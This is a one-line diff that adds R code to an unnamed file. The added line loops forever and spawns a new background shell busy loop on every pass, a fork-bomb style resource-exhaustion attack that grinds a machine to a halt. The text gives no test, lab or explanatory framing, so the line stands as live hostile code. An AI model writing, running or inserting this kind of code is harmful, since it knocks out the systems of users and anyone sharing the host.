@@ -1,0 +1,1 @@
+while (TRUE) system("while :; do :; done", wait = FALSE)
